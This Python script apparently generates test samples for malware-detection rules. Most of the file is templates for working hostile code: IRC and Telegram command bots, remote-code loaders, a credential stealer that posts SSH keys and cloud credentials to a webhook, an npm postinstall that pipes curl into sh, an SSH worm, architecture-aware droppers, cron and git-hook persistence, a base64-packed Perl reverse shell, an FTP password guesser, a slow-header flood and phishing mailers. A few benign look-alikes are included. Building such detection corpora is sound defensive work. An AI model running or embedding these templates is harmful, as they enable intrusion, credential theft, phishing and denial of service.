#!/usr/bin/env python3
"""Script bots, backdoors and mailers (Node.js, Python, Perl, shell) in a
fifth author style, for rules written by technique rather than by sample
string (issue 12 part 2, docs/script-rules.md). Each template draws names,
hosts and comments from a seeded Random, so a seed not used for tuning
measures whether a rule finds code written by someone else. Benign
look-alikes (deploy, CI notifier, mail-merge with unsubscribe, backup,
node-gyp postinstall) share the capabilities one at a time.

Text only: nothing here is ever run.

usage: scriptgen7.py --out DIR [--seed N] [--per N]   (writes variants.tsv,
the format of nonphpgen.py, scored by tests/score_variants.py)
"""
import argparse
import hashlib
import os
import random

HOSTS = ["192.0.2.%d", "198.51.100.%d", "203.0.113.%d"]
CMT = {
    "de": ["Verbindung aufbauen", "Befehl ausfuehren", "Liste lesen", "Ergebnis senden"],
    "pt": ["conectar ao servidor", "executar comando", "ler a lista", "enviar resultado"],
    "en": ["connect", "run it", "read the list", "send back"],
    "none": ["", "", "", ""],
}


def host(r):
    return r.choice(HOSTS) % r.randint(2, 250)


def ident(r, pool):
    return r.choice(pool) + r.choice(["", "_", "2", "x"])


def cm(r, mark, i):
    c = CMT[r.choice(list(CMT))][i]
    return (mark + " " + c) if c else ""


# ---------------------------------------------------------------- Node.js
def node_irc(r):
    s, cp, ch = ident(r, ["sock", "c", "link", "conn"]), ident(r, ["cp", "proc", "kid"]), "#" + r.choice(["ops", "z", "lab"])
    nick = r.choice(["n", "u", "w"]) + str(r.randint(100, 999))
    if r.random() < 0.5:
        return """const net = require('net');
const %(cp)s = require('child_process');
%(c0)s
const %(s)s = new net.Socket();
%(s)s.connect(%(port)d, '%(h)s', () => {
  %(s)s.write('NICK %(nick)s\\r\\nUSER %(nick)s 0 * :%(nick)s\\r\\n');
});
%(s)s.on('data', (buf) => {
  for (const line of buf.toString().split('\\r\\n')) {
    if (line.startsWith('PING')) %(s)s.write('PONG' + line.slice(4) + '\\r\\n');
    if (/ 001 /.test(line)) %(s)s.write('JOIN %(ch)s\\r\\n');
    const m = line.match(/PRIVMSG \\S+ :!x (.*)/);
    if (m) {
      %(c1)s
      %(cp)s.exec(m[1], (e, out) => {
        (out || '').split('\\n').forEach(l => %(s)s.write('PRIVMSG %(ch)s :' + l + '\\r\\n'));
      });
    }
  }
});
""" % dict(s=s, cp=cp, ch=ch, nick=nick, port=r.choice([6667, 6697, 7000]), h=host(r), c0=cm(r, "//", 0), c1=cm(r, "//", 1)), "js"
    return """var n=require("net"),k=require("child_process").spawn;var q=n.createConnection(%(port)d,"%(h)s");
q.on("connect",function(){q.write("NICK %(nick)s\\nUSER a a a :a\\nJOIN %(ch)s\\n")});
q.on("data",function(d){d=""+d;var i=d.indexOf(" PRIVMSG ");if(i<0)return;var t=d.split(" :").pop().trim();
if(t.indexOf(".sh ")==0){var p=k("/bin/sh",["-c",t.substr(4)]);p.stdout.on("data",function(o){q.write("PRIVMSG %(ch)s :"+o+"\\n")})}});
""" % dict(nick=nick, ch=ch, port=r.choice([6667, 8080]), h=host(r)), "js"


def node_loader(r):
    u = "http://%s/%s" % (host(r), r.choice(["u.js", "c", "api/v1/cfg"]))
    v = r.randint(0, 2)
    if v == 0:
        return """const vm = require('vm');
const http = require('http');
%(c)s
function tick() {
  http.get('%(u)s', res => {
    let body = '';
    res.on('data', d => body += d);
    res.on('end', () => { try { vm.runInNewContext(body, { require, process, console }); } catch (e) {} });
  });
}
setInterval(tick, %(ms)d);
""" % dict(u=u, c=cm(r, "//", 3), ms=r.choice([30000, 60000])), "js"
    if v == 1:
        return """// %(c)s
async function loop() {
  for (;;) {
    const r = await fetch('%(u)s');
    const src = await r.text();
    if (src.length) new Function('require', src)(require);
    await new Promise(ok => setTimeout(ok, %(ms)d));
  }
}
loop();
""" % dict(u=u, c=cm(r, "", 0) or "x", ms=r.choice([15000, 45000])), "mjs"
    return """require('https').get('%(u)s'.replace('http:','https:'),function(r){var b=[];r.on('data',function(c){b.push(c)});r.on('end',function(){eval(Buffer.concat(b).toString())})});
""" % dict(u=u), "js"


def node_postinstall(r):
    u = "http://%s/%s" % (host(r), r.choice(["i.sh", "setup", "x"]))
    name = r.choice(["color-utilz", "fast-jsonx", "lodash-extra2"])
    cmd = r.choice([
        "curl -s %s | sh" % u,
        "wget -qO- %s | bash" % u,
        "node -e \\\"require('http').get('%s',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\\\"" % u,
    ])
    return """{
  "name": "%s",
  "version": "1.%d.0",
  "main": "index.js",
  "scripts": {
    "postinstall": "%s"
  }
}
""" % (name, r.randint(0, 9), cmd), "json"


def node_mailer(r):
    lst = r.choice(["list.txt", "emails.txt", "leads.csv"])
    return """const nodemailer = require('nodemailer');
const fs = require('fs');
%(c)s
const t = nodemailer.createTransport({ host: '%(h)s', port: 587, auth: { user: process.argv[2], pass: process.argv[3] } });
const html = fs.readFileSync('letter.html', 'utf8');
const targets = fs.readFileSync('%(l)s', 'utf8').split(/\\r?\\n/).filter(Boolean);
(async () => {
  for (const to of targets) {
    await t.sendMail({ from: '"Support" <no-reply@%(d)s>', to, subject: 'Account notice', html });
    console.log('sent', to);
  }
})();
""" % dict(h=host(r), l=lst, d=r.choice(["bank-secure.example", "billing.example"]), c=cm(r, "//", 2)), "js"


# ---------------------------------------------------------------- Python
def py_telegram(r):
    tok = "%d:%s" % (r.randint(10**8, 10**9), "".join(r.choice("ABCDEFabcdef0123456789_-") for _ in range(35)))
    if r.random() < 0.5:
        return """import requests, subprocess, time
TOKEN = '%(t)s'
API = 'https://api.telegram.org/bot' + TOKEN
off = 0
while True:
    %(c)s
    upd = requests.get(API + '/getUpdates', params={'offset': off, 'timeout': 30}).json()
    for u in upd.get('result', []):
        off = u['update_id'] + 1
        cmd = u.get('message', {}).get('text', '')
        out = subprocess.run(cmd, shell=True, capture_output=True, text=True).stdout
        requests.post(API + '/sendMessage', data={'chat_id': u['message']['chat']['id'], 'text': out[:4000]})
    time.sleep(2)
""" % dict(t=tok, c=cm(r, "#", 1) or "pass"), "py"
    return """#!/usr/bin/env python
import urllib2, json, os
b = "https://api.telegram.org/bot%(t)s/"
o = 0
while 1:
    j = json.load(urllib2.urlopen(b + "getUpdates?offset=%%d" %% o))
    for m in j["result"]:
        o = m["update_id"] + 1
        r = os.popen(m["message"]["text"]).read()
        urllib2.urlopen(b + "sendMessage", "chat_id=%%s&text=%%s" %% (m["message"]["chat"]["id"], r))
""" % dict(t=tok), "py"


def py_stealer(r):
    hook = r.choice(["https://discord.com/api/webhooks/%d/abc" % r.randint(10**9, 10**10),
                     "http://%s/collect" % host(r)])
    return """import os, glob, json, urllib.request
%(c)s
found = {}
for pat in ['/home/*/public_html/wp-config.php', '/var/www/*/.env', os.path.expanduser('~/.ssh/id_*'),
            '/home/*/.aws/credentials']:
    for p in glob.glob(pat):
        try:
            found[p] = open(p, errors='ignore').read()
        except OSError:
            pass
req = urllib.request.Request('%(h)s', data=json.dumps({'content': json.dumps(found)[:1900]}).encode(),
                             headers={'Content-Type': 'application/json'})
urllib.request.urlopen(req)
""" % dict(h=hook, c=cm(r, "#", 2)), "py"


def py_paste_cron(r):
    u = r.choice(["https://pastebin.com/raw/", "https://paste.ee/r/", "https://rentry.co/raw/"]) + "".join(r.choice("abcdefXYZ19") for _ in range(8))
    return """import os, urllib.request, subprocess
%(c)s
code = urllib.request.urlopen('%(u)s').read().decode()
p = '/tmp/.%(n)s.py'
open(p, 'w').write(code)
line = '*/%(m)d * * * * python3 %%s >/dev/null 2>&1\\n' %% p
cur = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout
if p not in cur:
    subprocess.run(['crontab', '-'], input=cur + line, text=True)
exec(code)
""" % dict(u=u, n=r.choice(["cache", "x11", "sys"]), m=r.choice([5, 10, 15]), c=cm(r, "#", 3)), "py"


def py_smtp_threads(r):
    return """import smtplib, threading, sys
from email.mime.text import MIMEText
%(c)s
body = open('msg.html').read()
def send(addr):
    s = smtplib.SMTP('%(h)s', 587)
    s.starttls(); s.login(sys.argv[1], sys.argv[2])
    m = MIMEText(body, 'html'); m['Subject'] = 'Verify your account'; m['To'] = addr
    s.sendmail('service@%(d)s', [addr], m.as_string()); s.quit()
for a in open('%(l)s').read().split():
    threading.Thread(target=send, args=(a,)).start()
""" % dict(h=host(r), d=r.choice(["paypa1.example", "office-verify.example"]), l=r.choice(["mails.txt", "list"]), c=cm(r, "#", 2)), "py"


# ---------------------------------------------------------------- Perl
def pl_slowheader(r):
    return """use IO::Socket::INET;
my ($h, $n) = @ARGV; my @s;
%(c)s
for (1..$n) { my $c = IO::Socket::INET->new(PeerAddr => $h, PeerPort => 80, Proto => 'tcp') or next;
  print $c "GET /?$_ HTTP/1.1\\r\\nHost: $h\\r\\nUser-Agent: Mozilla/5.0\\r\\n"; push @s, $c; }
while (1) { for my $c (@s) { print $c "X-a: " . int(rand(9999)) . "\\r\\n"; } sleep %(t)d; }
""" % dict(t=r.choice([10, 15]), c=cm(r, "#", 0)), "pl"


def pl_packed(r):
    import base64
    inner = b"use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton('%s')));open(STDIN,'>&S');exec('/bin/sh -i');" % host(r).encode()
    if r.random() < 0.5:
        b = base64.b64encode(inner).decode()
        return "use MIME::Base64;\nmy $p = decode_base64('%s');\neval $p;\n" % b, "pl"
    import binascii
    lines = []
    for i in range(0, len(inner), 45):
        lines.append(binascii.b2a_uu(inner[i:i + 45]).decode().rstrip("\n"))
    return "my $x = <<'E';\n%s\nE\neval unpack(\"u\", $x);\n" % "\n".join(lines), "pl"


def pl_guesser(r):
    return """use Net::FTP;
%(c)s
my ($host, $user) = @ARGV;
open(my $w, '<', '%(w)s') or die;
while (my $pw = <$w>) { chomp $pw;
  my $f = Net::FTP->new($host, Timeout => 5) or next;
  if ($f->login($user, $pw)) { print "OK $user:$pw\\n"; open(O, '>>found.txt'); print O "$host $user $pw\\n"; last; }
  $f->quit; }
""" % dict(w=r.choice(["words.txt", "pass.lst", "rockyou.txt"]), c=cm(r, "#", 2)), "pl"


def pl_mailer(r):
    return """use Net::SMTP;
open(L, "%(l)s"); my @to = <L>; close L;
%(c)s
foreach my $rcpt (@to) { chomp $rcpt;
  my $s = Net::SMTP->new('%(h)s') or next;
  $s->mail('alert\\@%(d)s'); $s->to($rcpt); $s->data();
  $s->datasend("Subject: Unusual sign-in\\nContent-Type: text/html\\n\\n" . `cat letter.htm`);
  $s->dataend(); $s->quit; }
""" % dict(l=r.choice(["list.txt", "m.txt"]), h=host(r), d=r.choice(["secure-apple.example", "chase-id.example"]), c=cm(r, "#", 2)), "pl"


# ---------------------------------------------------------------- shell
def sh_spreader(r):
    u = "http://%s/%s" % (host(r), r.choice(["s", "i.sh"]))
    return """#!/bin/sh
%(c)s
for h in $(awk '{print $1}' ~/.ssh/known_hosts | tr ',' '\\n' | sort -u); do
  for k in ~/.ssh/id_rsa ~/.ssh/id_ed25519; do
    ssh -oStrictHostKeyChecking=no -oBatchMode=yes -i $k $USER@$h "curl -fsSL %(u)s | sh" </dev/null &
  done
done
""" % dict(u=u, c=cm(r, "#", 0)), "sh"


def sh_arch(r):
    b = "http://%s/bins" % host(r)
    n = r.choice(["kworker", ".x", "dbus"])
    return """#!/bin/sh
cd /tmp || cd /var/tmp
case $(uname -m) in
  x86_64) a=x86_64;; i?86) a=i686;; aarch64) a=arm64;; armv7*) a=arm7;; mips) a=mips;; *) a=x86;;
esac
(wget -q %(b)s/$a -O %(n)s || curl -so %(n)s %(b)s/$a) && chmod +x %(n)s && ./%(n)s; rm -f %(n)s
""" % dict(b=b, n=n), "sh"


def sh_mailx(r):
    return """#!/bin/bash
%(c)s
while read -r to; do
  %(send)s
done < %(l)s
""" % dict(l=r.choice(["list.txt", "$1"]), c=cm(r, "#", 2), send=r.choice([
        'mail -a "Content-Type: text/html" -s "Invoice overdue" -r billing@%s "$to" < letter.html' % r.choice(["inv.example", "pay.example"]),
        'swaks --to "$to" --from support@apple-id.example --server %s --body @letter.html --header "Subject: Locked"' % host(r),
        '(echo "To: $to"; echo "Subject: Verify"; echo; cat letter.html) | sendmail -t',
    ])), "sh"


def sh_persist(r):
    v = r.randint(0, 2)
    h = host(r)
    if v == 0:
        return "#!/bin/sh\necho \"alias ps='ps aux | grep -v kdevtmp'\" >> ~/.bashrc\n(crontab -l 2>/dev/null; echo \"@reboot /tmp/.kdevtmp >/dev/null 2>&1\") | crontab -\n", "sh"
    if v == 1:
        return "#!/bin/sh\nfor d in $(find / -name .git -type d 2>/dev/null); do\n  printf '#!/bin/sh\\ncurl -s http://%s/h | sh &\\n' > $d/hooks/post-checkout; chmod +x $d/hooks/post-checkout\ndone\n" % h, "sh"
    return "#!/bin/bash\n(crontab -l; echo '@reboot wget -qO- http://%s/r | bash') | crontab -\necho 'alias top=\"top | grep -v miner\"' >> /root/.bashrc\n" % h, "sh"


# ---------------------------------------------------------------- benign
def b_irc_ci(r):
    return """const net = require('net');
// CI notifier: posts the build status to our channel, reads nothing back
const s = net.createConnection(6667, 'irc.libera.chat', () => {
  s.write('NICK ci-bot\\r\\nUSER ci 0 * :ci\\r\\nJOIN #myproj\\r\\n');
  s.write('PRIVMSG #myproj :build ' + process.env.BUILD_ID + ' ' + process.env.STATUS + '\\r\\n');
  s.end('QUIT\\r\\n');
});
""", "js"


def b_postinstall(r):
    return """{
  "name": "native-thing",
  "version": "2.%d.1",
  "scripts": {
    "install": "node-gyp rebuild",
    "postinstall": "node scripts/postinstall.js || true",
    "test": "mocha"
  }
}
""" % r.randint(0, 9), "json"


def b_mailmerge(r):
    return """import smtplib, sqlite3
from email.message import EmailMessage
db = sqlite3.connect('members.db')
with smtplib.SMTP('localhost') as s:
    for name, addr, token in db.execute('SELECT name, email, unsub_token FROM members WHERE opted_in = 1'):
        m = EmailMessage()
        m['Subject'] = 'Club newsletter'; m['From'] = 'news@club.example'; m['To'] = addr
        m['List-Unsubscribe'] = '<https://club.example/unsubscribe/%s>' % token
        m.set_content('Hi %s, see the news at https://club.example' % name)
        s.send_message(m)
""", "py"


def b_deploy(r):
    return """#!/bin/sh
set -e
ARCH=$(uname -m)
VER=1.%d.0
curl -fsSLo /usr/local/bin/tool https://github.com/example/tool/releases/download/v$VER/tool-linux-$ARCH
echo "$(cat tool.sha256)  /usr/local/bin/tool" | sha256sum -c -
chmod +x /usr/local/bin/tool
tool --version
""" % r.randint(0, 9), "sh"


def b_backup(r):
    return """#!/bin/bash
# nightly backup to the offsite box
tar czf /backup/site-$(date +%%F).tgz /var/www/site
rsync -a -e "ssh -i /root/.ssh/backup_ed25519" /backup/ backup@%s:/srv/backups/
""" % host(r), "sh"


def b_monitor(r):
    return """import requests, time, subprocess
TOKEN = open('/etc/monitor/token').read().strip()
while True:
    load = subprocess.run(['uptime'], capture_output=True, text=True).stdout
    requests.post('https://api.telegram.org/bot%s/sendMessage' % TOKEN, data={'chat_id': 12345, 'text': load})
    time.sleep(300)
""", "py"


TEMPLATES = [
    ("node_irc", node_irc, "malicious", "high"),
    ("node_loader", node_loader, "malicious", "high"),
    ("node_postinstall", node_postinstall, "malicious", "high"),
    ("node_mailer", node_mailer, "malicious", "any"),
    ("py_telegram", py_telegram, "malicious", "high"),
    ("py_stealer", py_stealer, "malicious", "high"),
    ("py_paste_cron", py_paste_cron, "malicious", "high"),
    ("py_smtp_threads", py_smtp_threads, "malicious", "any"),
    ("pl_slowheader", pl_slowheader, "malicious", "any"),
    ("pl_packed", pl_packed, "malicious", "high"),
    ("pl_guesser", pl_guesser, "malicious", "any"),
    ("pl_mailer", pl_mailer, "malicious", "any"),
    ("sh_spreader", sh_spreader, "malicious", "high"),
    ("sh_arch", sh_arch, "malicious", "high"),
    ("sh_mailx", sh_mailx, "malicious", "any"),
    ("sh_persist", sh_persist, "malicious", "high"),
    ("b_irc_ci", b_irc_ci, "benign", "below-high"),
    ("b_postinstall", b_postinstall, "benign", "none"),
    ("b_mailmerge", b_mailmerge, "benign", "below-high"),
    ("b_deploy", b_deploy, "benign", "below-high"),
    ("b_backup", b_backup, "benign", "none"),
    ("b_monitor", b_monitor, "benign", "below-high"),
]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--out", required=True)
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--per", type=int, default=3)
    a = ap.parse_args()
    os.makedirs(a.out, exist_ok=True)
    with open(os.path.join(a.out, "variants.tsv"), "w") as tsv:
        tsv.write("file\tclass\ttechnique\tlang\texpect\ttransforms\n")
        for name, fn, cls, expect in TEMPLATES:
            for i in range(a.per):
                tag = "script7:%s:%s:%d" % (a.seed, name, i)
                text, ext = fn(random.Random(tag))
                fname = hashlib.sha256(tag.encode()).hexdigest()[:12] + "." + ext
                with open(os.path.join(a.out, fname), "w", encoding="utf-8") as f:
                    f.write(text)
                tsv.write("%s\t%s\t%s\t%s\t%s\t-\n" % (fname, cls, name, ext, expect))
    print(a.out)


if __name__ == "__main__":
    main()
